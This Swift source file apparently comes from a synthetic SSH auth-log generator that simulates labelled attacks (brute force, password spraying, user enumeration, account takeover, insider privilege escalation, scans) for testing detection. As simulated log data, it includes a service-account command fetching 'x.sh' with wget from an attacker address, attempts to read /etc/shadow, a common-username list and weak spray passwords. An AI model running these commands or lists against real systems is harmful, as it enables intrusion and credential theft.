import TriplineCore
/// Plans the attacks (after the clean baseline days) and writes each one's lines, the way the
/// tools and people behind them behave: bursts from one address, slow trickles, sprays over
/// many accounts, logins from places and at hours the victim never used.
struct AttackPlanner {
    struct Planned {
        let kind: AttackKind
        let start: Int64
        let stream: UInt64
    }

    let config: GeneratorConfig
    let population: Population
    let start: Int64
    var usedIPs: Set<String> = []

    init(config: GeneratorConfig, population: Population, start: Int64) {
        self.config = config
        self.population = population
        self.start = start
    }

    static let commonUsers = [
        "admin", "test", "oracle", "postgres", "ubuntu", "user", "guest", "ftpuser", "git", "pi",
        "support", "deploy", "tomcat", "mysql", "nagios", "www", "web", "dev", "backup", "server",
        "minecraft", "hadoop", "elastic", "ansible", "jenkins", "teamspeak", "csgo", "steam", "ts3",
        "administrator", "demo", "info", "sales", "office", "temp", "default", "operator", "student",
    ]

    func schedule() -> [Planned] {
        var rng = SplitMix64(seed: config.seed, stream: 99)
        let attackDays = config.days - config.cleanDays
        guard attackDays > 0, config.attacksPerKind > 0 else { return [] }
        var out: [Planned] = []
        var n: UInt64 = 0
        for kind in AttackKind.attacks {
            for _ in 0..<config.attacksPerKind {
                let day = config.cleanDays + rng.int(0...(attackDays - 1))
                var hour: Int
                switch kind {
                case .accountTakeover: hour = rng.int(1...4)           // the victim is asleep
                case .privilegeEscalation, .bulkDataAccess: hour = rng.int(10...16) // insiders work in the day
                case .slowBruteForce: hour = rng.int(0...12)
                default: hour = rng.int(0...23)
                }
                if day == config.days - 1, kind == .slowBruteForce { hour = min(hour, 8) }
                let t = start + Int64(day) * AuthLogGenerator.day + Int64(hour) * AuthLogGenerator.hour + Int64(rng.unit() * 3_000_000_000)
                n += 1
                out.append(Planned(kind: kind, start: t, stream: 1000 + n))
            }
        }
        return out.sorted { $0.start < $1.start }
    }

    private mutating func publicIP(_ rng: inout SplitMix64) -> String {
        while true {
            let first = rng.pick([5, 23, 31, 37, 45, 46, 58, 61, 77, 79, 89, 91, 103, 110, 112, 116, 118, 122, 134, 139, 141, 159, 162, 171, 179, 181, 185, 193, 195, 200, 203, 212, 218, 222])
            let ip = "\(first).\(rng.int(1...254)).\(rng.int(1...254)).\(rng.int(1...254))"
            if usedIPs.insert(ip).inserted { return ip }
        }
    }

    mutating func run(_ plan: Planned, script: inout SSHScript, index: Int) -> GenerationLabels.Attack {
        var rng = SplitMix64(seed: config.seed, stream: plan.stream)
        let before = script.sink.total
        var label = GenerationLabels.Attack(id: String(format: "A%03d", index), kind: plan.kind, start: plan.start, end: plan.start,
                                            sourceIP: nil, users: [], host: "bastion-01", events: 0, description: "")
        var t = plan.start
        let people = population.people
        switch plan.kind {
        case .bruteForce, .successAfterFailures:
            let ip = publicIP(&rng)
            let host = rng.pick(["bastion-01", "web-01", "web-02"])
            let victim = plan.kind == .successAfterFailures ? rng.pick(people) : nil
            let target = victim?.name ?? rng.pick(["root", "root", "admin", people[rng.int(0...(people.count - 1))].name])
            let valid = target != "admin"
            let attempts = plan.kind == .successAfterFailures ? rng.int(10...30) : rng.int(30...160)
            var pid = script.pid(host), port = rng.int(32768...60999)
            for k in 0..<attempts {
                if k % 6 == 0 {
                    if k > 0 { script.closedPreauth(user: target, valid: valid, host: host, ip: ip, port: port, pid: pid, at: t + 500_000) }
                    pid = script.pid(host); port = rng.int(32768...60999)
                    if !valid { script.invalidUser(user: target, host: host, ip: ip, port: port, pid: pid, at: t) }
                }
                script.failedPassword(user: target, valid: valid, host: host, ip: ip, port: port, pid: pid, at: t)
                t += SSHScript.sec(1 + rng.unit() * 5)
            }
            if let victim {
                let s = script.login(user: victim.name, uid: victim.uid, host: host, ip: ip, at: t + 2_000_000, key: false)
                t = s.t
                script.sudo(user: victim.name, uid: victim.uid, host: host, ip: ip, command: "/bin/bash", at: t + 30_000_000)
                t += SSHScript.sec(300)
                script.logout(user: victim.name, host: host, ip: ip, port: s.port, pid: s.pid, at: t)
                label.description = "\(attempts) failed passwords for \(victim.name) from one address, then a successful login and a root shell"
            } else {
                script.closedPreauth(user: target, valid: valid, host: host, ip: ip, port: port, pid: pid, at: t)
                label.description = "\(attempts) failed passwords for \(target) from one address within minutes"
            }
            label.sourceIP = ip; label.users = [target]; label.host = host
        case .slowBruteForce:
            let ip = publicIP(&rng)
            let host = rng.pick(["bastion-01", "web-02"])
            let targets = ["root"] + (rng.chance(0.5) ? [rng.pick(people).name] : [])
            let hours = rng.int(6...12)
            var total = 0
            for h in 0..<hours {
                let tries = rng.int(2...5)
                for _ in 0..<tries {
                    let when = plan.start + Int64(h) * AuthLogGenerator.hour + Int64(rng.unit() * 3_400_000_000)
                    let pid = script.pid(host), port = rng.int(32768...60999)
                    let u = rng.pick(targets)
                    script.failedPassword(user: u, valid: true, host: host, ip: ip, port: port, pid: pid, at: when)
                    script.closedPreauth(user: u, valid: true, host: host, ip: ip, port: port, pid: pid, at: when + 3_000_000)
                    t = max(t, when + 3_000_000)
                    total += 1
                }
            }
            label.sourceIP = ip; label.users = targets; label.host = host
            label.description = "\(total) failed passwords over \(hours) hours from one address, a few an hour"
        case .passwordSpraying:
            let ip = publicIP(&rng)
            let host = rng.pick(["bastion-01", "web-01"])
            var accounts = people.map(\.name).shuffled(using: &rng)
            accounts = Array(accounts.prefix(rng.int(min(12, accounts.count)...min(40, accounts.count))))
            accounts += AttackPlanner.commonUsers.shuffled(using: &rng).prefix(rng.int(3...10))
            let password = rng.pick(["Winter2026!", "Spring2026", "Company123", "Welcome1"])
            for u in accounts.shuffled(using: &rng) {
                let valid = people.contains { $0.name == u }
                let pid = script.pid(host), port = rng.int(32768...60999)
                if !valid { script.invalidUser(user: u, host: host, ip: ip, port: port, pid: pid, at: t) }
                script.failedPassword(user: u, valid: valid, host: host, ip: ip, port: port, pid: pid, at: t + 200_000)
                script.closedPreauth(user: u, valid: valid, host: host, ip: ip, port: port, pid: pid, at: t + 3_000_000)
                t += SSHScript.sec(5 + rng.unit() * 40)
            }
            label.sourceIP = ip; label.users = accounts; label.host = host
            label.description = "one password (\(password)) tried once against \(accounts.count) accounts from one address"
        case .userEnumeration:
            let ip = publicIP(&rng)
            let host = "bastion-01"
            let names = AttackPlanner.commonUsers.shuffled(using: &rng).prefix(rng.int(15...36)).map { $0 + (rng.chance(0.3) ? String(rng.int(1...99)) : "") }
            for u in names {
                let pid = script.pid(host), port = rng.int(32768...60999)
                script.invalidUser(user: u, host: host, ip: ip, port: port, pid: pid, at: t)
                script.closedPreauth(user: u, valid: false, host: host, ip: ip, port: port, pid: pid, at: t + 400_000)
                t += SSHScript.sec(0.5 + rng.unit() * 4)
            }
            label.sourceIP = ip; label.users = names; label.host = host
            label.description = "\(names.count) non-existent account names probed from one address in a couple of minutes"
        case .accountTakeover:
            let victim = rng.pick(people.filter { $0.role != .admin })
            let ip = publicIP(&rng)
            let host = rng.pick(victim.hosts)
            let s = script.login(user: victim.name, uid: victim.uid, host: host, ip: ip, at: t, key: false)
            t = s.t
            script.sudoRefused(user: victim.name, host: host, ip: ip, command: "/bin/cat /etc/shadow", notInSudoers: !victim.usesSudo, at: t + 60_000_000)
            for k in 0..<rng.int(80...200) {
                script.fileAccess(user: victim.name, host: "files-01", ip: ip, path: "/srv/share/\(rng.pick(BenignBehaviour.shares))/doc\(k).xlsx",
                                  action: "read", bytes: rng.int(20_000...3_000_000), at: t + 90_000_000 + Int64(k) * 2_000_000)
            }
            t += SSHScript.sec(1500)
            script.logout(user: victim.name, host: host, ip: ip, port: s.port, pid: s.pid, at: t)
            label.sourceIP = ip; label.users = [victim.name]; label.host = host
            label.description = "\(victim.name) logged in with a password from an address and at an hour never seen before, then tried sudo and read hundreds of files"
        case .privilegeEscalation:
            let insider = rng.pick(people.filter { !$0.usesSudo })
            let ip = insider.addresses[0]
            let host = rng.pick(insider.hosts)
            let s = script.login(user: insider.name, uid: insider.uid, host: host, ip: ip, at: t, key: insider.usesKeys)
            t = s.t + 120_000_000
            script.sudoRefused(user: insider.name, host: host, ip: ip, command: "/bin/bash", notInSudoers: true, at: t)
            t += SSHScript.sec(40)
            script.sudoRefused(user: insider.name, host: host, ip: ip, command: "/usr/bin/passwd root", notInSudoers: false, at: t)
            t += SSHScript.sec(30)
            for _ in 0..<rng.int(2...4) {
                script.suFailed(user: insider.name, uid: insider.uid, host: host, ip: ip, at: t)
                t += SSHScript.sec(15 + rng.unit() * 30)
            }
            script.logout(user: insider.name, host: host, ip: ip, port: s.port, pid: s.pid, at: t + 60_000_000)
            label.sourceIP = ip; label.users = [insider.name]; label.host = host
            label.description = "\(insider.name), who never uses sudo, tried sudo (not in sudoers, wrong passwords) and su to root"
        case .serviceAccountMisuse:
            let svc = rng.pick(population.services)
            let ip = rng.chance(0.5) ? publicIP(&rng) : "10.20.\(rng.int(31...60)).\(rng.int(2...250))"
            let host = rng.pick(["db-01", "files-01", "web-01"])
            let s = script.login(user: svc.name, uid: svc.uid, host: host, ip: ip, at: t, key: false)
            t = s.t
            for cmd in ["/bin/bash", "/usr/bin/wget http://\(ip)/x.sh", "/usr/bin/crontab -e"] {
                t += SSHScript.sec(20 + rng.unit() * 60)
                script.sudo(user: svc.name, uid: svc.uid, host: host, ip: ip, command: cmd, at: t)
            }
            t += SSHScript.sec(600)
            script.logout(user: svc.name, host: host, ip: ip, port: s.port, pid: s.pid, at: t)
            label.sourceIP = ip; label.users = [svc.name]; label.host = host
            label.description = "service account \(svc.name) logged in interactively with a password from a new address and ran a shell"
        case .bulkDataAccess:
            let insider = rng.pick(people)
            let ip = insider.addresses[0]
            let n = rng.int(300...1200)
            for k in 0..<n {
                script.fileAccess(user: insider.name, host: "files-01", ip: ip, path: "/srv/share/\(rng.pick(BenignBehaviour.shares))/doc\(k % 900).\(rng.pick(["xlsx", "pdf", "docx"]))",
                                  action: rng.chance(0.9) ? "read" : "download", bytes: rng.int(20_000...5_000_000), at: t)
                t += Int64(300_000 + rng.unit() * 2_500_000)
            }
            label.sourceIP = ip; label.users = [insider.name]; label.host = "files-01"
            label.description = "\(insider.name) read \(n) files in under two hours, far above the usual handful"
        case .reconnaissance:
            // A scanner: connections that never log in (banner grabs, closed before the key
            // exchange, no identification string), a few seconds apart.
            let ip = publicIP(&rng)
            let host = rng.pick(["bastion-01", "web-01", "web-02"])
            let n = rng.int(15...60)
            for _ in 0..<n {
                let pid = script.pid(host), port = rng.int(32768...60999)
                switch rng.int(0...3) {
                case 0: script.emit(t, host, "sshd", pid, "Did not receive identification string from \(ip) port \(port)")
                case 1:
                    script.emit(t, host, "sshd", pid, "kex_exchange_identification: Connection closed by remote host")
                    script.emit(t + 1000, host, "sshd", pid, "Connection closed by \(ip) port \(port)")
                case 2: script.emit(t, host, "sshd", pid, "Received disconnect from \(ip) port \(port):11: Bye Bye [preauth]")
                default: script.closedPreauth(user: nil, valid: false, host: host, ip: ip, port: port, pid: pid, at: t)
                }
                t += SSHScript.sec(0.5 + rng.unit() * 8)
            }
            label.sourceIP = ip; label.host = host
            label.description = "\(n) connections from one address that never tried to log in: a scan"
        case .unusualActivity:
            // Not an attack: never planned (``AnomalyKind/attacks``).
            break
        }
        label.end = max(t, plan.start)
        label.events = script.sink.total - before
        return label
    }
}
